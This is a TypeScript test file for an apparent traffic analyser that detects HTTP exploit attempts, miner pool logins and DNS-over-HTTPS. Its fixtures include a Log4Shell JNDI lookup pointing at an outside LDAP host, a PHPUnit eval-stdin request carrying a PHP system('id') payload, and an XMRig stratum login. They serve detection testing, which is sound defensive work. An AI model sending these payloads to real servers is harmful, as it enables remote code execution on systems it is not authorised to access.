// biome-ignore-all lint/suspicious/noTemplateCurlyInString: lookups of Log4j look like placeholders
import assert from 'node:assert/strict'
import { test } from 'node:test'
import { brotliCompressSync, deflateRawSync, deflateSync, gzipSync, zstdCompressSync } from 'node:zlib'
import fc from 'fast-check'
import { rowsOfTalk, type Said } from '../../../test/wire.ts'
import { http } from './http.ts'
import { stratum } from './stratum.ts'

const attack = 'GET /?x=$%7Bjndi:ldap://203.0.113.5:1389/a} HTTP/1.1\r\nHost: a.example\r\n\r\n'
const shell = '<?php system("id");'
const evil = (fields: string, body: string) =>
  `POST /vendor/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1\r\nHost: a\r\n${fields}\r\n\r\n${body}`
const ok = (body: string) => `HTTP/1.1 200 OK\r\nContent-Length: ${body.length}\r\n\r\n${body}`
const latin = (bytes: Uint8Array) => Buffer.from(bytes).toString('latin1')

function told(...said: Said[]) {
  return (rowsOfTalk([http], said).exploits ?? []).map(({ patch, succeeded }) =>
    succeeded === undefined ? patch : `${patch} ${succeeded}`,
  )
}
const bytewise = (said: readonly Said[]): Said[] =>
  said.flatMap(([from, what]) => (typeof what === 'string' ? [...what].map((c): Said => [from, c]) : [[from, what] as Said]))

test('a request says what it tries, for whom, and where it sends its victim', () => {
  const [row] = rowsOfTalk([http], [[0, attack]]).exploits ?? []
  assert.deepEqual([row?.patch, row?.calls, row?.answer], ['log4shell', ['203.0.113.5:1389'], ''])
  assert.equal(row?.target, 'GET http://a.example/?x=$%7Bjndi:ldap://203.0.113.5:1389/a}')
})

test('any segmentation: whole, and byte by byte', () => {
  const said: Said[] = [
    [0, evil(`Content-Length: ${shell.length}`, shell)],
    [1, ok('uid=33(www-data)')],
  ]
  assert.deepEqual(told(...said), ['phpunit-eval-stdin true'])
  assert.deepEqual(told(...bytewise(said)), ['phpunit-eval-stdin true'])
})

test('chunked bodies, with extensions and trailers, and what comes after them', () => {
  const chunks = `3;x=y\r\n${shell.slice(0, 3)}\r\n${(shell.length - 3).toString(16).toUpperCase()}\r\n${shell.slice(3)}\r\n0\r\nX-Sum: 1\r\n\r\n`
  const said: Said[] = [[0, `${evil('Transfer-Encoding: chunked', chunks)}${attack}`]]
  assert.deepEqual(told(...said), ['phpunit-eval-stdin', 'log4shell'])
  assert.deepEqual(told(...bytewise(said)), ['phpunit-eval-stdin', 'log4shell'])
})

test('packed bodies', () => {
  const packed = { gzip: gzipSync, deflate: deflateSync, br: brotliCompressSync, zstd: zstdCompressSync }
  for (const [coding, pack] of [...Object.entries(packed), ['deflate', deflateRawSync] as const]) {
    const body = latin(pack(Buffer.from(shell)))
    assert.deepEqual(told([0, evil(`Content-Encoding: ${coding}\r\nContent-Length: ${body.length}`, body)]), ['phpunit-eval-stdin'], coding)
  }
})

test('answers find their requests: pipelined, interim, of HEAD, and without a body', () => {
  const head = 'HEAD /a HTTP/1.1\r\nHost: a\r\n\r\n'
  const asks = head + evil(`Expect: 100-continue\r\nContent-Length: ${shell.length}`, shell) + head
  const answers = `HTTP/1.1 200 OK\r\nContent-Length: 999\r\n\r\nHTTP/1.1 100 Continue\r\n\r\n${ok('done')}HTTP/1.1 304 Not Modified\r\n\r\n`
  assert.deepEqual(told([0, asks], [1, answers]), ['phpunit-eval-stdin true'])
  assert.deepEqual(
    told(
      ...bytewise([
        [0, asks],
        [1, answers],
      ]),
    ),
    ['phpunit-eval-stdin true'],
  )
  assert.deepEqual(told([0, asks], [1, `HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\n\r\n${ok('<html>')}`]), ['phpunit-eval-stdin false'])
})

test('an answer whose end was not seen still tells; one packed is unpacked', () => {
  const said: Said[] = [[0, evil(`Content-Length: ${shell.length}`, shell)]]
  assert.deepEqual(told(...said, [1, 'HTTP/1.0 200 OK\r\n\r\nuid=33']), ['phpunit-eval-stdin true'])
  const page = latin(gzipSync(Buffer.from('<html>not here')))
  assert.deepEqual(told(...said, [1, `HTTP/1.1 200 OK\r\nContent-Encoding: gzip\r\nContent-Length: ${page.length}\r\n\r\n${page}`]), [
    'phpunit-eval-stdin false',
  ])
})

test('after a loss the next message is found again', () => {
  const upload = 'PUT /big HTTP/1.1\r\nHost: a\r\nContent-Length: 5000\r\n\r\nabc'
  assert.deepEqual(told([0, upload], [0, 4997], [0, attack]), ['log4shell'], 'within a body, to its end')
  assert.deepEqual(told([0, upload], [0, 9000], [0, 'rest of something'], [0, attack]), ['log4shell'], 'beyond a body')
  assert.deepEqual(told([0, 'GET / HTTP/1.1\r\nHost: '], [0, 50], [0, attack]), ['log4shell'], 'within a head')
})

test('a head whose end was not captured is read as far as it goes', () => {
  const cut = 'GET /?x=${jndi:ldap://203.0.113.5/a} HTTP/1.1\r\nHost: app.exa'
  assert.deepEqual(told([0, cut]), ['log4shell'])
  assert.deepEqual(told([0, cut], [0, 400], [1, ok('x')], [0, attack]), ['log4shell', 'log4shell'])
  assert.deepEqual(told([0, 'GET /?x=${jndi'], [0, 400], [1, ok('x')]), [])
})

test('from one side only, and seen from the middle with the sides mistaken', () => {
  assert.deepEqual(told([1, ok('x')], [1, ok('y')]), [])
  const rows = rowsOfTalk([http], [[1, attack]], { midstream: true }).exploits ?? []
  assert.deepEqual([rows.length, rows[0]?.server.address], [1, '192.0.2.1'])
})

test('what is carried inside goes to those who know it', () => {
  const login = `{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"x","pass":"x","agent":"XMRig/6.21.0"}}\n`
  const through: Said[] = [
    [0, 'CONNECT pool.example:3333 HTTP/1.1\r\n\r\n'],
    [1, 'HTTP/1.1 200 Connection established\r\n\r\n'],
    [0, login],
  ]
  assert.deepEqual(
    rowsOfTalk([http, stratum], through).stratum?.map(({ via }) => via),
    [['connect pool.example:3333']],
  )
  const work = '{"jsonrpc":"2.0","id":0,"method":"eth_getWork","params":[]}'
  const posted: Said[] = [
    [0, `POST / HTTP/1.1\r\nHost: node\r\nContent-Length: ${work.length}\r\n\r\n`],
    [0, work],
    [1, ok(`{"id":0,"jsonrpc":"2.0","result":["0x${'1'.repeat(64)}","0x${'2'.repeat(64)}","0x${'3'.repeat(64)}"]}`)],
  ]
  assert.equal(rowsOfTalk([http, stratum], posted).stratum?.length, 1)
})

test('near misses: other protocols that look alike are not taken', () => {
  for (const text of [
    'OPTIONS rtsp://a/b RTSP/1.0\r\nCSeq: 1\r\n\r\n',
    'INVITE sip:a@b SIP/2.0\r\n\r\n',
    'GET key another key that is long\r\n',
    'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n',
  ])
    assert.equal(http.probe(Buffer.from(text), 0, text.length, 0, undefined as never), 'no', text)
})

test('any bytes: nothing throws, and all are taken or refused', () => {
  const pieces = fc.oneof(
    fc.constantFrom(
      attack,
      'HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n',
      '5\r\nhello\r\n',
      '0\r\n\r\n',
      'POST / HTTP/1.1\r\nContent-Length: 7\r\nContent-Encoding: gzip\r\n\r\n',
      'HTTP/1.1 101 x\r\nUpgrade: websocket\r\n\r\n',
      '\r\n',
    ),
    fc.uint8Array({ maxLength: 40 }).map(latin),
    fc.nat(100),
  )
  fc.assert(
    fc.property(
      fc.array(fc.tuple(fc.constantFrom(0 as const, 1 as const), pieces)),
      said => void rowsOfTalk([http], [[0, attack], ...said]),
    ),
  )
})

test('DNS over HTTPS by its question or its type; near miss: pages about it', () => {
  const hidden = (request: string) => rowsOfTalk([http], [[0, `${request}\r\n\r\n`]]).hiddenPeers?.map(({ sign, name }) => [sign, name])
  const question = 'AAABAAABAAAAAAAAA3d3dwdleGFtcGxlA2NvbQAAAQAB'
  const told = [['question', 'doh.example']]
  assert.deepEqual(hidden(`GET /dns-query?dns=${question} HTTP/1.1\r\nHost: doh.example`), told)
  assert.deepEqual(hidden('POST /q HTTP/1.1\r\nHost: doh.example\r\nContent-Type: application/dns-message\r\nContent-Length: 0'), told)
  for (const target of ['/dns-query', '/?dns=1.1.1.1', '/setup?mdns=abcdefghijklmnopqrst'])
    assert.equal(hidden(`GET ${target} HTTP/1.1\r\nHost: doh.example`), undefined, target)
})
